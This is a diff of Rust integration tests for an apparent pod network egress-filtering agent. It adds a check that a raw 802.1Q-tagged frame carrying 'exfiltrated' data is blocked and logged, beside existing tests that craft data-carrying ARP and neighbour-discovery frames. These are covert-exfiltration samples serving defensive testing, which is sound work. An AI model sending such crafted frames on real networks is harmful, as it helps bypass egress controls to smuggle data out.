@@ -787,9 +787,13 @@ fn a_next_hop_override_reaches_nothing() {
         let a = attack(&w.pod(), Privilege::ContainerDefault, &["udp", dst, "9999"]);
         assert!(a.ok, "the send itself is allowed: {a:?}");
     }
+    // Refused as sent to a host that is not where the address is reached.
     let lines = wait_lines(
         &agent,
-        &["\"reason\":\"spoofed\"", "\"layer\":\"interface_packet\""],
+        &[
+            "\"reason\":\"packet_check\"",
+            "\"layer\":\"interface_packet\"",
+        ],
         2,
     );
     assert!(lines.len() >= 2, "{lines:?}");
@@ -813,6 +817,7 @@ fn arp_and_neighbour_discovery_carry_no_data() {
     let w = World::new(2);
     w.write_se("ext1.yaml", ALLOWED);
     let big_arp = NftCounter::matching(w.net.ext(2), "eth0", "ether type arp meta length > 100");
+    let tagged = NftCounter::matching(w.net.ext(2), "eth0", "ether type vlan");
     let big_nd = NftCounter::matching(
         w.net.ext(2),
         "eth0",
@@ -821,7 +826,7 @@ fn arp_and_neighbour_discovery_carry_no_data() {
     let agent = w.start_agent("REGISTRY_ONLY", POD);
     let mac2 = mac_of(w.net.ext(2), "eth0");
     let mac = mac2.replace(':', "");
-    let out = python(
+    let arp_out = python(
         &w,
         Privilege::ContainerDefault,
         &format!(
@@ -834,7 +839,28 @@ fn arp_and_neighbour_discovery_carry_no_data() {
              except OSError as e: print('refused', e.errno)\n"
         ),
     );
-    assert!(out.contains("sent") || out.contains("refused"), "{out}");
+    assert!(
+        arp_out.contains("sent") || arp_out.contains("refused"),
+        "{arp_out}"
+    );
+    // A frame with an 802.1Q tag (the kernel takes it into the packet's
+    // metadata before TC sees the frame).
+    let vlan = python(
+        &w,
+        Privilege::ContainerDefault,
+        &format!(
+            "import socket\n\
+             s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
+             s.bind(('eth0', 0))\n\
+             ip = bytes.fromhex('4500003c00004000401100000000000000000000')\n\
+             ip = ip[:12] + bytes([198,18,0,2,198,18,0,12])\n\
+             udp = bytes.fromhex('2710270f00280000') + b'exfiltrated' * 3\n\
+             try:\n\
+             \x20 s.send(bytes.fromhex('{mac}') + s.getsockname()[4] + b'\\x81\\x00\\x00\\x05\\x08\\x00' + ip + udp); print('sent')\n\
+             except OSError as e: print('refused', e.errno)\n"
+        ),
+    );
+    assert!(vlan.contains("sent") || vlan.contains("refused"), "{vlan}");
     // Root in the pod: a TUN device, forwarding on, a crafted neighbour
     // solicitation with 900 bytes of options to ext2's global address.
     let ns = w.net.pod();
@@ -855,13 +881,22 @@ fn arp_and_neighbour_discovery_carry_no_data() {
     assert!(out.contains("injected"), "{out}");
     let lines = wait_lines(
         &agent,
-        &["\"layer\":\"interface_packet\"", "\"reason\":\"spoofed\""],
+        &["\"layer\":\"interface_packet\"", "\"transport\":\"icmpv6\""],
         1,
     );
     assert!(
         !lines.is_empty(),
         "the neighbour solicitation was refused and logged"
     );
+    let arp = log_lines(
+        &agent,
+        &["\"layer\":\"interface_packet\"", "\"transport\":\"arp\""],
+    );
+    assert!(
+        arp_out.contains("refused") || arp.len() == 1,
+        "the ARP frame with data was refused and logged: {arp:?}"
+    );
+    assert_eq!(tagged.count(), 0, "ext2 got no tagged frame");
     assert_eq!(
         (big_arp.count(), big_nd.count()),
         (0, 0),
